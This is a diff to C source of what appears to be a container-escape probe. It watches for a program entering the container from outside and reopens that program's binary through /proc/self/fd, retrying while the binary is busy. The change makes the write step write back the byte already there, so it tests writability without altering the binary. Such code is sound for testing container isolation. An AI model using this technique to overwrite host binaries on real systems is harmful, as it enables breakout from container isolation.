@@ -258,19 +258,22 @@ static int program_from_outside(const char *pid, const char *name, int *file)
     return *file == -1 ? -1 : 1;
 }
 
+/* Write the byte that is there already. */
 static int overwrite(int file)
 {
-    char path[64];
+    char path[64], byte;
     int writable = -1;
 
     snprintf(path, sizeof(path), "/proc/self/fd/%d", file);
     for (int i = 0; i < 2000; i++) { /* ETXTBSY as long as it runs */
-        writable = open(path, O_WRONLY | O_CLOEXEC);
+        writable = open(path, O_RDWR | O_CLOEXEC);
         if (writable != -1 || errno != ETXTBSY)
             break;
         usleep(1000);
     }
-    return outcome(writable, "open the program for writing");
+    if (writable == -1 || pread(writable, &byte, 1, 0) != 1)
+        return closed("open the program for writing");
+    return outcome(pwrite(writable, &byte, 1, 0), "write to the program");
 }
 
 static int watch_programs(int seconds, const char *name)
@@ -289,7 +292,8 @@ static int watch_programs(int seconds, const char *name)
             if (found == 1)
                 return overwrite(file);
         }
-        closedir(processes);
+        if (processes != NULL)
+            closedir(processes);
     }
     fprintf(stderr, "escape: no program from outside seen, %d refused\n", refused);
     return 1;
